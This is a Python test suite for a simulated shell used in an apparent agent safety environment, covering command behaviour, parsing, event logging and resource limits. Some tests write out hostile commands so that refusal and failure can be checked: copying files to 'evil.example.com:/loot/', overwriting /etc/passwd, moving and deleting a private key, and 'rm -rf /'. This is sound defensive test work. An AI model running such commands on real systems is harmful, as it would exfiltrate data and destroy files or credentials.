"""Behaviour of the simulated shell: commands, parsing, redirection, events and robustness."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safety_gym.errors import ToolError
from safety_gym.events import CommandRun, FileCopied, FileDeleted, FileRead, FileWritten
from safety_gym.types import ToolCall
from safety_gym.world.base import World
from safety_gym.world.files import File, FileSystem
from safety_gym.world.shell import MAX_OUTPUT_CHARS, Shell

HOME = "/home/agent"


def make_world() -> tuple[World, FileSystem, Shell]:
    files = FileSystem(
        {
            "workstation": {
                f"{HOME}/notes.txt": File("hello\nworld\n"),
                f"{HOME}/todo.md": File("- buy milk\n- call Bob\n- TODO: file taxes\n"),
                f"{HOME}/.bashrc": File("alias ll='ls -l'\n"),
                f"{HOME}/project/main.py": File("import os\n# TODO: refactor\nprint('hi')\n"),
                f"{HOME}/project/lib/util.py": File("def util():\n    return 1  # todo later\n"),
                "/etc/passwd": File("root:x:0:0\n", writable=False),
                f"{HOME}/keys/id_rsa": File("SECRET KEY\n", writable=False),
            },
            "backup-01": {"/srv/backups/old.tar": File("old backup")},
        },
        local_host="workstation",
    )
    shell = Shell(files)
    return World([files, shell]), files, shell


@pytest.fixture()
def world() -> World:
    return make_world()[0]


@pytest.fixture()
def parts() -> tuple[World, FileSystem, Shell]:
    return make_world()


def run(world: World, command: str) -> str:
    result = world.call(ToolCall(id="1", name="run_command", arguments={"command": command}))
    assert not result.is_error, result.content
    return result.content


def last_exit_code(world: World) -> int:
    commands = [event for event in world.events if isinstance(event, CommandRun)]
    return commands[-1].exit_code


def events_of(world: World, kind: type) -> list:
    return [event for event in world.events if isinstance(event, kind)]


# ---- the tool itself ----


def test_run_command_is_the_only_tool_and_is_documented(world: World) -> None:
    specs = {spec.name: spec for spec in world.tool_specs()}
    assert "run_command" in specs
    assert specs["run_command"].description.startswith("Run a shell command on your workstation")
    assert "command" in specs["run_command"].parameters["properties"]
    shell_tools = [bound.name for bound in Shell(FileSystem({"h": {}}, local_host="h")).tools()]
    assert shell_tools == ["run_command"]


def test_summary_names_host_and_cwd(parts: tuple[World, FileSystem, Shell]) -> None:
    _, _, shell = parts
    assert shell.summary() == f"shell on workstation, cwd {HOME}"


@pytest.mark.parametrize("command", ["", "   ", "\t\n"])
def test_empty_command_raises_tool_error(parts: tuple[World, FileSystem, Shell], command: str) -> None:
    world, _, shell = parts
    with pytest.raises(ToolError):
        shell.run_command(command)
    assert world.call(ToolCall(id="1", name="run_command", arguments={"command": command})).is_error
    assert not events_of(world, CommandRun)


# ---- reading commands ----


def test_ls_lists_names_and_hides_dotfiles(world: World) -> None:
    assert run(world, "ls") == "keys\nnotes.txt\nproject\ntodo.md"
    assert run(world, "ls /home/agent/project") == "lib\nmain.py"
    assert ".bashrc" in run(world, "ls -a").splitlines()


def test_ls_long_format_shows_sizes_and_read_only_files(world: World) -> None:
    lines = run(world, "ls -l keys project").splitlines()
    assert lines[0] == "keys:"
    assert lines[1].startswith("-r--r--r-- 1 agent agent") and lines[1].endswith("Jun  2 09:00 id_rsa")
    assert any(line.startswith("drwxr-xr-x") and line.endswith(" lib") for line in lines)


def test_ls_missing_path_fails_with_exit_code_2(world: World) -> None:
    assert run(world, "ls nowhere") == "ls: cannot access 'nowhere': No such file or directory"
    assert last_exit_code(world) == 2


def test_cat_prints_files_and_reports_missing_ones(world: World) -> None:
    assert run(world, "cat notes.txt") == "hello\nworld"
    output = run(world, "cat missing.txt notes.txt")
    assert output.startswith("cat: missing.txt: No such file or directory")
    assert output.endswith("hello\nworld")
    assert last_exit_code(world) == 1
    assert run(world, "cat project") == "cat: project: Is a directory"


def test_cat_records_one_file_read_per_file(world: World) -> None:
    run(world, "cat notes.txt todo.md")
    assert [event.path for event in events_of(world, FileRead)] == [f"{HOME}/notes.txt", f"{HOME}/todo.md"]


def test_head_and_tail(world: World) -> None:
    assert run(world, "head -n 1 todo.md") == "- buy milk"
    assert run(world, "head -2 todo.md") == "- buy milk\n- call Bob"
    assert run(world, "tail -n 1 todo.md") == "- TODO: file taxes"
    assert run(world, "tail -n +2 todo.md") == "- call Bob\n- TODO: file taxes"
    assert run(world, "head -n x todo.md") == "head: invalid number of lines: 'x'"


def test_wc(world: World) -> None:
    assert run(world, "wc -l todo.md") == "3 todo.md"
    assert run(world, "wc notes.txt") == " 2  2 12 notes.txt"


def test_grep_single_file_and_flags(world: World) -> None:
    assert run(world, "grep TODO todo.md") == "- TODO: file taxes"
    assert run(world, "grep -n -i bob todo.md") == "2:- call Bob"
    assert run(world, "grep -v TODO todo.md") == "- buy milk\n- call Bob"
    assert run(world, "grep -c -- - todo.md") == "3"


def test_grep_several_files_prefixes_paths(world: World) -> None:
    output = run(world, "grep -i todo todo.md project/main.py")
    assert output == "todo.md:- TODO: file taxes\nproject/main.py:# TODO: refactor"


def test_grep_recursive(world: World) -> None:
    output = run(world, "grep -rn -i todo project")
    assert output == "project/lib/util.py:2:    return 1  # todo later\nproject/main.py:2:# TODO: refactor"
    assert run(world, "grep -rl TODO .") == "./project/main.py\n./todo.md"
    assert run(world, "cd project; grep -r todo") == "lib/util.py:    return 1  # todo later"


def test_grep_regex_and_basic_regex_alternation(world: World) -> None:
    assert run(world, "grep -E 'milk|Bob' todo.md") == "- buy milk\n- call Bob"
    assert run(world, r"grep 'milk\|Bob' todo.md") == "- buy milk\n- call Bob"
    assert run(world, "grep '^h.*o$' notes.txt") == "hello"


def test_grep_exit_codes_and_invalid_regex(world: World) -> None:
    assert run(world, "grep nothing-like-this notes.txt") == ""
    assert last_exit_code(world) == 1
    output = run(world, "grep -E '(' notes.txt")
    assert output.startswith("grep: invalid regular expression")
    assert last_exit_code(world) == 2


def test_grep_files_with_matches_names_a_single_file(world: World) -> None:
    assert run(world, "grep -l milk todo.md") == "todo.md"
    assert run(world, "cat todo.md | grep -l milk") == "(standard input)"


def test_find(world: World) -> None:
    assert run(world, "find project -name '*.py'") == "project/lib/util.py\nproject/main.py"
    assert run(world, "find project -type d -print") == "project\nproject/lib"
    assert run(world, "find . -maxdepth 1 -name '*.md'") == "./todo.md"


def test_simple_builtins(world: World) -> None:
    assert run(world, "pwd") == HOME
    assert run(world, "whoami") == "agent"
    assert run(world, "hostname") == "workstation"
    assert run(world, "date") == "Mon Jun  2 09:00:00 UTC 2025"
    assert run(world, "echo hello   'big  world'") == "hello big  world"


def test_date_is_configurable() -> None:
    shell = Shell(FileSystem({"h": {}}, local_host="h"), now="Tue Jan  7 12:00:00 UTC 2025")
    assert shell.run_command("date") == "Tue Jan  7 12:00:00 UTC 2025"


def test_cd_and_pwd(parts: tuple[World, FileSystem, Shell]) -> None:
    world, _, shell = parts
    assert run(world, "cd project/lib && pwd") == f"{HOME}/project/lib"
    assert shell.cwd == f"{HOME}/project/lib"
    assert run(world, "cat util.py | head -n 1") == "def util():"
    assert run(world, "cd ..; pwd") == f"{HOME}/project"
    assert run(world, "cd") == "" and shell.cwd == HOME
    assert run(world, "cd nowhere") == "bash: cd: nowhere: No such file or directory"
    assert run(world, "cd notes.txt") == "bash: cd: notes.txt: Not a directory"
    assert shell.cwd == HOME


# ---- writing commands ----


def test_echo_redirection_writes_and_appends(world: World) -> None:
    run(world, "echo first > out.txt")
    run(world, "echo second >> out.txt")
    assert run(world, "cat out.txt") == "first\nsecond"
    written = events_of(world, FileWritten)
    assert [(event.path, event.after) for event in written][-1] == (f"{HOME}/out.txt", "first\nsecond\n")


def test_redirection_of_other_commands(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "cat notes.txt todo.md > all.txt") == ""
    assert files.read(f"{HOME}/all.txt", record=False).startswith("hello\nworld\n- buy milk")
    run(world, "grep -c o notes.txt>count.txt")
    assert files.read(f"{HOME}/count.txt", record=False) == "2\n"
    assert run(world, "wc -l < todo.md") == "3"


def test_stderr_redirection(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "cat nothing 2>/dev/null") == ""
    run(world, "cat nothing 2> errors.log")
    assert files.read(f"{HOME}/errors.log", record=False) == "cat: nothing: No such file or directory\n"


def test_redirect_to_read_only_file_is_refused_before_running(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "echo hacked > /etc/passwd") == "bash: /etc/passwd: Permission denied"
    assert last_exit_code(world) == 1
    assert files.read("/etc/passwd", record=False) == "root:x:0:0\n"


def test_touch_and_mkdir(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "touch empty.txt") == ""
    assert files.read(f"{HOME}/empty.txt", record=False) == ""
    assert run(world, "mkdir -p build/out") == ""
    assert run(world, "mkdir build") == "mkdir: cannot create directory 'build': File exists"
    assert run(world, "cd build/out && pwd") == f"{HOME}/build/out"
    assert run(world, "ls") == ""


def test_cp_copies_and_records_file_copied(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "cp notes.txt copy.txt") == ""
    assert files.read(f"{HOME}/copy.txt", record=False) == "hello\nworld\n"
    copied = events_of(world, FileCopied)
    assert copied == [
        FileCopied(
            step=0, source_host="workstation", source_path=f"{HOME}/notes.txt",
            target_host="workstation", target_path=f"{HOME}/copy.txt", moved=False,
        )
    ]
    assert events_of(world, FileRead)[-1].path == f"{HOME}/notes.txt"


def test_cp_into_directory_and_recursive(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    run(world, "cp notes.txt todo.md project/")
    assert files.exists(f"{HOME}/project/notes.txt") and files.exists(f"{HOME}/project/todo.md")
    assert run(world, "cp project elsewhere") == "cp: -r not specified; omitting directory 'project'"
    run(world, "cp -r project elsewhere")
    assert files.read(f"{HOME}/elsewhere/lib/util.py", record=False).startswith("def util")


def test_mv_moves_and_records_moved_copy(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    run(world, "mv notes.txt renamed.txt")
    assert not files.exists(f"{HOME}/notes.txt")
    assert files.read(f"{HOME}/renamed.txt", record=False) == "hello\nworld\n"
    assert events_of(world, FileCopied)[-1].moved is True
    assert events_of(world, FileDeleted)[-1].path == f"{HOME}/notes.txt"


def test_mv_of_read_only_file_is_refused(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    output = run(world, "mv keys/id_rsa /tmp/key")
    assert "Permission denied" in output
    assert files.exists(f"{HOME}/keys/id_rsa") and not files.exists("/tmp/key")


def test_rm_deletes_files_and_trees(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    run(world, "rm notes.txt")
    assert not files.exists(f"{HOME}/notes.txt")
    assert run(world, "rm project") == "rm: cannot remove 'project': Is a directory"
    run(world, "rm -r project")
    assert not files.is_dir(f"{HOME}/project")
    assert run(world, "rm missing") == "rm: cannot remove 'missing': No such file or directory"
    assert run(world, "rm -f missing") == ""
    assert last_exit_code(world) == 0


def test_rm_of_read_only_file_is_refused_and_file_remains(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "rm -f keys/id_rsa") == "rm: cannot remove 'keys/id_rsa': Permission denied"
    assert last_exit_code(world) == 1
    assert files.read(f"{HOME}/keys/id_rsa", record=False) == "SECRET KEY\n"
    assert not events_of(world, FileDeleted)
    assert run(world, "rm -rf keys") == "rm: cannot remove 'keys/id_rsa': Permission denied"
    assert run(world, "rm -rf /").startswith("rm: it is dangerous")


# ---- scp ----


def test_scp_copies_to_another_host_and_records_file_copied(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "scp notes.txt backup-01:/srv/backups/") == ""
    assert files.read("/srv/backups/notes.txt", host="backup-01", record=False) == "hello\nworld\n"
    copied = events_of(world, FileCopied)[-1]
    assert (copied.source_host, copied.source_path) == ("workstation", f"{HOME}/notes.txt")
    assert (copied.target_host, copied.target_path) == ("backup-01", "/srv/backups/notes.txt")
    assert copied.moved is False


def test_scp_recursive_and_from_remote(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    assert run(world, "scp project backup-01:") == "scp: project: not a regular file"
    run(world, "scp -r project agent@backup-01:")
    assert files.exists(f"{HOME}/project/lib/util.py", host="backup-01")
    run(world, "scp backup-01:/srv/backups/old.tar .")
    assert files.read(f"{HOME}/old.tar", record=False) == "old backup"
    assert events_of(world, FileCopied)[-1].source_host == "backup-01"


def test_scp_to_unknown_host_fails(world: World) -> None:
    output = run(world, "scp notes.txt evil.example.com:/loot/")
    assert output.startswith("ssh: Could not resolve hostname evil.example.com")
    assert last_exit_code(world) != 0
    assert not events_of(world, FileCopied)


# ---- parsing: quoting, globs, pipelines, sequences ----


def test_unbalanced_quote_is_reported_not_raised(world: World) -> None:
    output = run(world, "echo 'unterminated")
    assert output.startswith("bash: syntax error")
    assert last_exit_code(world) == 2


def test_syntax_errors(world: World) -> None:
    assert run(world, "| grep x") == "bash: syntax error near unexpected token `|'"
    assert run(world, "ls &&") == "bash: syntax error: unexpected end of file"
    assert run(world, "echo >") == "bash: syntax error near unexpected token `newline'"


def test_quoted_metacharacters_are_literal(world: World) -> None:
    assert run(world, "echo 'a;b' \"c|d\" 'e > f'") == "a;b c|d e > f"
    assert run(world, "echo '*.txt' \\*.md") == "*.txt *.md"
    assert run(world, "echo hi # a comment") == "hi"


def test_glob_expansion(world: World) -> None:
    assert run(world, "echo *.txt *.md") == "notes.txt todo.md"
    assert run(world, "ls project/*.py") == "project/main.py"
    assert run(world, "echo /home/agent/project/*/*.py") == "/home/agent/project/lib/util.py"
    assert run(world, "echo no-match-*") == "no-match-*"
    assert run(world, "echo ?otes.txt") == "notes.txt"


def test_pipelines(world: World) -> None:
    assert run(world, "cat todo.md | grep -i todo") == "- TODO: file taxes"
    assert run(world, "cat todo.md | head -n 2 | tail -n 1") == "- call Bob"
    assert run(world, "grep -r -i todo project | wc -l") == "2"
    assert run(world, "echo one two | wc -w") == "2"


def test_sequences(world: World) -> None:
    assert run(world, "echo a; echo b") == "a\nb"
    assert run(world, "cat missing && echo never") == "cat: missing: No such file or directory"
    assert run(world, "cat missing || echo fallback") == "cat: missing: No such file or directory\nfallback"
    assert run(world, "echo a\necho b") == "a\nb"


def test_tilde_and_variables_expand_outside_single_quotes(world: World) -> None:
    assert run(world, "cat ~/notes.txt") == "hello\nworld"
    assert run(world, "grep -l hello ~/notes.txt") == f"{HOME}/notes.txt"
    assert run(world, "echo $HOME \"$USER\" '$PWD' '~'") == f"{HOME} agent $PWD ~"
    assert run(world, "cat missing; echo $?") == "cat: missing: No such file or directory\n1"


def test_unknown_command_suggests_a_close_one(world: World) -> None:
    output = run(world, "gerp TODO todo.md")
    assert output.startswith("bash: gerp: command not found")
    assert "Did you mean 'grep'?" in output
    assert last_exit_code(world) == 127
    assert "Available commands:" in run(world, "python3 -c 'import os'")


def test_output_is_bounded() -> None:
    big = "x" * 80_000 + "\n"
    shell = Shell(FileSystem({"h": {"/home/agent/big.txt": File(big)}}, local_host="h"))
    output = shell.run_command("cat big.txt big.txt big.txt")
    assert len(output) < MAX_OUTPUT_CHARS + 200
    assert "output truncated" in output


# ---- events ----


def test_every_command_line_records_one_command_run_with_final_exit_code(world: World) -> None:
    run(world, "echo ok")
    run(world, "cat missing; echo recovered")
    run(world, "echo ok && nosuchcommand")
    runs = events_of(world, CommandRun)
    assert [(event.command, event.exit_code) for event in runs] == [
        ("echo ok", 0),
        ("cat missing; echo recovered", 0),
        ("echo ok && nosuchcommand", 127),
    ]
    assert all(event.host == "workstation" for event in runs)


def test_direct_calls_record_events_too(parts: tuple[World, FileSystem, Shell]) -> None:
    world, _, shell = parts
    assert shell.run_command("cat notes.txt") == "hello\nworld"
    assert events_of(world, CommandRun)[-1].exit_code == 0


# ---- robustness ----


@settings(max_examples=300, deadline=None)
@given(command=st.text() | st.text(alphabet=" *?[]'\"\\|;&<>#2-~/.abcdeglsrmpx\n", max_size=60))
def test_arbitrary_text_never_raises(command: str) -> None:
    _, _, shell = make_world()
    if not command.strip():
        with pytest.raises(ToolError):
            shell.run_command(command)
        return
    assert isinstance(shell.run_command(command), str)


@settings(max_examples=20, deadline=None)
@given(piece=st.text(min_size=1, max_size=300), repeat=st.integers(min_value=100, max_value=1000))
def test_large_commands_never_raise(piece: str, repeat: int) -> None:
    command = piece * repeat
    _, _, shell = make_world()
    if command.strip():
        assert len(shell.run_command(command)) <= MAX_OUTPUT_CHARS + 100


# ---- bounds: no command line can hang an episode or exhaust memory ----


def shell_with(files: dict[str, str]) -> Shell:
    return Shell(FileSystem({"h": {f"{HOME}/{path}": File(text) for path, text in files.items()}}, local_host="h"))


def run_quickly(shell: Shell, command: str, seconds: float = 5.0) -> str:
    """Run `command`; fail if it takes longer than `seconds` (every limit below is far faster than that)."""
    started = time.perf_counter()
    output = shell.run_command(command)
    assert time.perf_counter() - started < seconds, f"{command!r} took too long"
    return output


@pytest.mark.parametrize("pattern", ["-E '(a+)+$'", "-E '(a*)*b'", r"-E '(\w+\s?)*$'", r"'\(a*\)*$'", "-E '(a+){2,}$'"])
def test_grep_refuses_nested_repetition_promptly(pattern: str) -> None:
    shell = shell_with({"a.txt": "a" * 50_000 + "b\n"})
    output = run_quickly(shell, f"grep {pattern} a.txt")
    assert output == "grep: pattern too complex for this shell (nested repetition)"
    assert shell.last_exit_code == 2


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [(r"-E '(a)\1'", "backreference"), ("-E 'a(?=b)'", "lookaround"), ("-E '(?<!x)a'", "lookaround"),
     ("-E 'x{1,9999}'", "too many states")],
)
def test_grep_refuses_what_an_automaton_cannot_match(pattern: str, reason: str) -> None:
    shell = shell_with({"a.txt": "ab\n"})
    assert run_quickly(shell, f"grep {pattern} a.txt") == f"grep: pattern too complex for this shell ({reason})"
    assert shell.last_exit_code == 2


def test_grep_patterns_that_make_re_backtrack_run_in_linear_time() -> None:
    # Python's re needs minutes for the first two on a 10,000-character line; the automaton does not backtrack.
    shell = shell_with({"long.txt": ("a" * 9_999 + "\n") * 20 + "xaxb\n"})
    assert run_quickly(shell, "grep '.*a.*b' long.txt") == "xaxb"
    assert run_quickly(shell, "grep -c 'a*a*a*a*a*a*c' long.txt") == "0"
    assert run_quickly(shell, "grep -cE '(a|aa|a)*c' long.txt") == "0"


def test_grep_still_supports_counted_repetition_alternation_classes_and_words() -> None:
    shell = shell_with({"log.txt": "login from 10.0.0.17 ok\nfoofoobar\nword_x\nTODO later\n"})
    assert shell.run_command(r"grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' log.txt") == "10.0.0.17"
    assert shell.run_command("grep -E '^(foo|bar)+$' log.txt") == "foofoobar"
    assert shell.run_command("grep -w word log.txt") == ""
    assert shell.run_command(r"grep -i '^todo\b' log.txt") == "TODO later"
    assert shell.run_command("grep -c '[[:digit:]]' log.txt") == "1"


def test_grep_only_matching_prints_leftmost_longest_matches_like_gnu_grep() -> None:
    shell = shell_with({"a.txt": "ab abab\n"})
    assert shell.run_command("grep -oE 'a|ab' a.txt") == "ab\nab\nab"


def test_grep_matches_long_lines_on_their_first_10000_characters() -> None:
    shell = shell_with({"wide.txt": "x" * 10_000 + "needle\n" + "needle" + "y" * 20_000 + "\n"})
    output = run_quickly(shell, "grep -n needle wide.txt")
    assert output == "2:needle" + "y" * 20_000


@settings(max_examples=200, deadline=None)
@given(
    atoms=st.lists(
        st.tuples(
            st.sampled_from(["a", "b", ".", "[ab]", "[^a]", r"\w", r"\s", r"\b", "^", "$", "(a|b)", "(ab|a)", " "]),
            st.sampled_from(["", "*", "+", "?", "{1,2}", "{2}"]),
        ),
        min_size=1, max_size=5,
    ),
    flags=st.sets(st.sampled_from(["-i", "-w"])),
    lines=st.lists(st.text(alphabet="abAB _.", max_size=12), min_size=1, max_size=8),
)
def test_grep_selects_the_same_lines_as_python_re(
    atoms: list[tuple[str, str]], flags: set[str], lines: list[str]
) -> None:
    pattern = "".join(atom + quantifier for atom, quantifier in atoms)
    regex = rf"(?<!\w)(?:{pattern})(?!\w)" if "-w" in flags else pattern
    try:
        compiled = re.compile(regex, re.IGNORECASE if "-i" in flags else 0)
    except re.error:
        return
    shell = shell_with({"in.txt": "".join(line + "\n" for line in lines)})
    output = shell.run_command(f"grep -E {' '.join(sorted(flags))} -e '{pattern}' in.txt")
    assert output == "".join(line + "\n" for line in lines if compiled.search(line)).rstrip("\n")


def test_cp_r_of_a_directory_into_itself_ends_with_gnu_error(parts: tuple[World, FileSystem, Shell]) -> None:
    world, files, _ = parts
    count = len(files.files())
    assert run(world, "cp -r project project/sub") == (
        "cp: cannot copy a directory, 'project', into itself, 'project/sub'"
    )
    assert last_exit_code(world) == 1
    assert run(world, "cp -r project project") == (
        "cp: cannot copy a directory, 'project', into itself, 'project/project'"
    )
    assert run(world, "cp -r . backup") == "cp: cannot copy a directory, '.', into itself, 'backup'"
    assert run(world, "mv project project/lib") == (
        "mv: cannot move 'project' to a subdirectory of itself, 'project/lib/project'"
    )
    assert len(files.files()) == count and not events_of(world, FileCopied)


def test_directory_index_follows_changes_within_one_command_line(parts: tuple[World, FileSystem, Shell]) -> None:
    world, _, _ = parts
    assert run(world, "rm project/lib/util.py; ls project") == "main.py"
    assert run(world, "mkdir -p a/b/c && touch a/f && cp -r a z && ls z z/b") == "z:\nb\nf\n\nz/b:\nc"
    assert run(world, "rm -r a; mv z y; ls -d 2>/dev/null; ls") == "keys\nnotes.txt\nproject\ntodo.md\ny"
    assert run(world, "mkdir d; touch d/f; rm d/f; ls d; echo $?") == "0"


def test_one_command_line_has_a_work_budget() -> None:
    shell = shell_with({"big.txt": "ab\n" * 3_000_000})
    output = run_quickly(shell, "grep -c b big.txt")
    assert output.startswith("grep: stopped: this command line needs more work than the shell allows")
    assert shell.last_exit_code == 1
    assert run_quickly(shell, "grep -c b big.txt | head -n 1; echo never") == output  # the rest is skipped
    assert shell.run_command("head -n 1 big.txt") == "ab"  # the next command line has a fresh budget


def test_output_and_arguments_are_capped() -> None:
    shell = shell_with({"big.txt": "x" * 9_000_000, **{f"file-{n:015d}": "" for n in range(100)}})
    assert run_quickly(shell, "cat big.txt big.txt big.txt > all.txt").startswith(
        "cat: output too large for this shell (over 20000000 characters)"
    )
    assert run_quickly(shell, "echo " + "* " * 1000) == "bash: echo: Argument list too long"
    assert shell.last_exit_code == 126
    assert run_quickly(shell, "echo " + "x" * 100_001).startswith("bash: command line too long for this shell")


def test_files_are_refused_like_a_full_disk() -> None:
    shell = shell_with({"big.txt": "x" * 9_000_000})
    assert shell.run_command("cat big.txt big.txt > double.txt") == "bash: double.txt: File too large"
    output = shell.run_command("cp big.txt c1; cp big.txt c2; cp big.txt c3; cp big.txt c4; cp big.txt c5")
    assert "No space left on device" in output
    assert shell.run_command("touch " + "n" * 300) == f"touch: cannot touch '{'n' * 300}': File name too long"


def test_absurd_numbers_are_errors_not_crashes(world: World) -> None:
    assert run(world, "head -n " + "9" * 5000 + " notes.txt") == "hello\nworld"
    assert run(world, "find . -maxdepth ²").startswith("find: Expected a positive decimal integer")
